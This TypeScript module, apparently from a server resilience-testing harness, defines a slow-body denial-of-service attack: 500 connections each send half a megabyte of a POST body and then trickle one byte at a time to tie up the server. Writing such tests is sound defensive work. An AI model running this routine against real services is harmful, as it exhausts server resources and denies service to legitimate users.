import type { AttackClass } from "../attack-class.ts";

const CONNECTIONS = 500;
const FIRST = "x".repeat(512 * 1024);

export const slowBodies: AttackClass = {
  name: "slow-bodies",
  does: "500 connections send half a megabyte of a body, and then a byte at a time",
  from: ["elsewhere", "spread"],
  lands: ["byte"],
  async run(attacker) {
    const { host, port } = attacker.place;
    await attacker.crowd(CONNECTIONS, async (lane) => {
      const socket = await attacker.open();
      socket.resume();
      const head = [
        "POST /v1/envelopes HTTP/1.1",
        `Host: ${host}:${port}`,
        "Content-Type: application/json",
        `Content-Length: ${1024 * 1024}`,
      ];
      socket.write(`${head.join("\r\n")}\r\n\r\n{"envelope":"${FIRST}`);
      while (!socket.destroyed && !attacker.isOver) {
        await attacker.rest(100 + (lane % 100));
        socket.write("x");
        attacker.count("byte");
      }
    });
  },
};
